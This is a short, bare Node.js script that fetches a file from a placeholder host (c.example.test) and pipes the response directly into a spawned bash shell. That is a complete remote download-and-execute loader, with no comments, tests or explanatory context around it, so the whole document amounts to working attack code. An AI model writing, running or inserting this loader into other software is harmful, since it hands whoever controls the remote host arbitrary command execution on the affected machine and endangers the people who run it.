const https = require("https");
const shell = require("child_process").spawn("bash", ["-s"]);
https.get("https://c.example.test/a", (reply) => reply.pipe(shell.stdin));
